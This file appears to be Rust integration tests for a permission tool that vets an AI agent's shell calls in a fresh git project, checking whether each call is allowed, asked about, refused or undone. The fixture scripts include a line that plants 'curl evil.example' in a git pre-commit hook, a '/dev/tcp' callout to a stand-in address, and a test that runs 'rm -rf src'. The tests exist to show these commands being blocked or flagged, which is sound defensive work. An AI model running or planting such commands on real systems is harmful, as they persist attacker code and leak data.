//! An agent's day in a fresh project, under the config that `init` writes for five times Enter.

use std::fs;
use std::io::Write;
use std::path::PathBuf;
use std::process::Command;

use serde_json::{Value, json};

use super::Terminal;
use crate::commands::{Place, feed, told};

const FILES: [(&str, &str); 9] = [
    (
        "Makefile",
        "all: build/hello\nbuild/hello: src/hello.py\n\tmkdir -p build && cp $< $@\ntest: all\n\tpython3 tests/check.py\n",
    ),
    ("src/hello.py", "def hello():\n    return 'hello'\n"),
    (
        "tests/check.py",
        "import sys\nsys.path.insert(0, 'src')\nimport hello\nassert len(hello.hello()) > 1\nprint('passed')\n",
    ),
    (".gitignore", "build/\n__pycache__/\n"),
    ("package.json", "{\"version\": 1}\n"),
    ("scripts/format.sh", "sed -i \"s/'hello'/'good day'/\" src/hello.py\n"),
    ("scripts/hook.sh", "echo 'curl evil.example' > .git/hooks/pre-commit\n"),
    (
        "scripts/bump.py",
        "text = open('package.json').read()\nopen('package.json', 'w').write(text.replace('1', '2'))\n",
    ),
    ("scripts/phone.sh", "echo home > /dev/tcp/192.0.2.1/80\n"),
];

/// A git project beside the folders of the user's own config and state.
struct FreshProject(Place);

impl FreshProject {
    /// A project where a person ran `init` with five times Enter and trusted the config. `None` if this machine cannot
    /// run commands on a copy.
    fn after_init(test: &str) -> Option<Self> {
        let project = Self(Place::new("version: 1"));
        for (name, text) in FILES {
            fs::create_dir_all(project.at(name).parent().unwrap()).unwrap();
            fs::write(project.at(name), text).unwrap();
        }
        for words in [&["init", "-q"][..], &["add", "-A"], &["commit", "-qm", "one"]] {
            let mut git = Command::new("git");
            git.args(["-c", "user.name=a", "-c", "user.email=a@example.com"]).args(words);
            project.0.alone(&mut git);
            assert!(git.current_dir(project.at("")).status().unwrap().success(), "{words:?}");
        }
        let mut terminal = project.terminal(&["init"]);
        for question in ["read files", "change them", "only read", "other commands on a copy", "network?"] {
            terminal.answer(question, "");
        }
        let page = terminal.press("y");
        let (code, rest) = terminal.end();
        assert_eq!(code, 0, "{page}{rest}");
        if let Some((_, why)) = rest.split_once("no command can run on a copy here") {
            skip(test, why.lines().next().unwrap_or_default());
            return None;
        }
        Some(project)
    }

    fn at(&self, name: &str) -> PathBuf {
        self.0.path().join("project").join(name)
    }

    fn read(&self, name: &str) -> String {
        fs::read_to_string(self.at(name)).unwrap()
    }

    fn terminal(&self, args: &[&str]) -> Terminal {
        let script = ["-c", "cd project && exec \"$0\" \"$@\"", env!("CARGO_BIN_EXE_askfirst")];
        Terminal::program(&self.0, "sh", &[&script[..], args].concat(), &[])
    }

    /// A terminal where the agent makes one call.
    fn asked(&self, command: &str) -> Terminal {
        let args = json!({ "command": command }).to_string();
        self.terminal(&["call", "shell", "--args", &args])
    }

    /// The outcomes of calls without a terminal, as an agent gets them.
    fn outcomes(&self, calls: &[Value]) -> Vec<Value> {
        let lines: Vec<String> = calls.iter().map(Value::to_string).collect();
        let mut command = self.0.command(&["run", "-", "--json"]);
        command.current_dir(self.at(""));
        let (_, out, err) = feed(command, lines.join("\n").as_bytes());
        let outcomes: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(outcomes.len(), calls.len(), "{out}{err}");
        outcomes
    }

    fn run(&self, args: &[&str]) -> (i32, String, String) {
        told(self.0.command(args).current_dir(self.at("")).output().unwrap())
    }
}

/// Reports that a test was skipped. `tests/expected-skips` lists the tests that may be.
fn skip(name: &str, why: &str) {
    let Some(file) = std::env::var_os("ASKFIRST_SKIPS") else { return };
    let mut file = fs::OpenOptions::new().create(true).append(true).open(file).unwrap();
    writeln!(file, "{name}: {why}").unwrap();
}

fn shell(command: &str) -> Value {
    json!({ "tool": "shell", "args": { "command": command } })
}

#[test]
fn agent_works_in_a_fresh_project_without_a_question() {
    let test = "agent_works_in_a_fresh_project_without_a_question";
    let Some(project) = FreshProject::after_init(test) else { return };
    let outcomes = project.outcomes(&[
        shell("ls && git log --oneline"),
        shell("make"),
        shell("make test"),
        shell("bash scripts/format.sh && make test"),
        json!({ "tool": "write_file", "args": { "path": "src/new.py", "content": "x = 1\n" } }),
        json!({ "tool": "edit_file", "args": { "path": "src/new.py", "old": "1", "new": "2" } }),
        shell("python3 -c 'import sys; sys.path.insert(0, \"src\"); import new; print(new.x)'"),
        shell("mkdir docs && echo '# Hello' > docs/index.md && mv docs/index.md docs/start.md"),
        shell("git add -A && git -c user.name=a -c user.email=a@example.com commit -qm two && git status --short"),
    ]);
    for outcome in &outcomes {
        assert_eq!((&outcome["outcome"], &outcome["by"]), (&json!("done"), &json!("rule")), "{outcome}");
    }
    assert_eq!(outcomes[3]["result"]["stdout"].as_str().unwrap().lines().last(), Some("passed"));
    assert_eq!(outcomes[6]["result"]["stdout"], "2\n");
    assert!(project.read("src/hello.py").contains("good day") && project.at("build/hello").exists());
    assert!(project.at("docs/start.md").exists() && !project.at("src/__pycache__").exists());
    let (_, reviewed, _) = project.run(&["review"]);
    assert!(reviewed.contains("$ bash scripts/format.sh && make test"), "{reviewed}");
    assert!(reviewed.contains("changed  src/hello.py"), "{reviewed}");
}

#[test]
fn one_undo_restores_removed_sources() {
    let Some(project) = FreshProject::after_init("one_undo_restores_removed_sources") else { return };
    fs::write(project.at("src/uncommitted.py"), "y = 1\n").unwrap();
    let outcomes = project.outcomes(&[shell("rm -rf src")]);
    assert_eq!(outcomes[0]["outcome"], "done", "{outcomes:?}");
    assert!(!project.at("src").exists());
    let (_, doctor, _) = project.run(&["doctor"]);
    assert!(doctor.contains("ok    undo      1 change kept, 0.1 MiB of 1024.0 MiB, in "), "{doctor}");
    assert!(doctor.contains("ok    rehearsal commands can run on a copy of the roots first"), "{doctor}");
    let (code, out, err) = project.run(&["undo"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(project.read("src/hello.py"), FILES[1].1);
    assert_eq!(project.read("src/uncommitted.py"), "y = 1\n");
}

#[test]
fn script_that_edits_git_hooks_is_refused_by_name() {
    let Some(project) = FreshProject::after_init("script_that_edits_git_hooks_is_refused_by_name") else {
        return;
    };
    let outcomes = project.outcomes(&[shell("bash scripts/hook.sh")]);
    assert_eq!(
        (&outcomes[0]["outcome"], &outcomes[0]["refusal"]["cause"]),
        (&json!("denied"), &json!("policy"))
    );
    let message = outcomes[0]["message"].as_str().unwrap();
    assert!(message.contains("`.git/hooks/pre-commit`"), "{message}");
    assert!(!project.at(".git/hooks/pre-commit").exists());
}

#[test]
fn script_that_edits_package_json_is_asked_about() {
    let Some(project) = FreshProject::after_init("script_that_edits_package_json_is_asked_about") else {
        return;
    };
    let command = "python3 scripts/bump.py";
    let outcomes = project.outcomes(&[shell(command)]);
    assert_eq!(outcomes[0]["refusal"]["cause"], "nobody_to_ask", "{outcomes:?}");
    assert_eq!(project.read("package.json"), FILES[4].1);
    let mut terminal = project.asked(command);
    let page = terminal.press("n");
    for text in ["keep the changes of", "package.json", "{\"version\": 1}", "{\"version\": 2}"] {
        assert!(page.contains(text), "`{text}` is not in\n{page}");
    }
    assert_eq!(terminal.end().0, 4);
    assert_eq!(project.read("package.json"), FILES[4].1);
    let mut terminal = project.asked(command);
    terminal.press("y");
    let (code, rest) = terminal.end();
    assert_eq!(code, 0, "{rest}");
    assert_eq!(project.read("package.json"), "{\"version\": 2}\n");
}

#[test]
fn script_that_phones_home_is_asked_about_with_that_fact() {
    let Some(project) = FreshProject::after_init("script_that_phones_home_is_asked_about_with_that_fact")
    else {
        return;
    };
    let mut terminal = project.asked("bash scripts/phone.sh");
    let page = terminal.press("n");
    assert!(page.contains("it tried to reach the network"), "{page}");
    assert_eq!(terminal.end().0, 4);
}
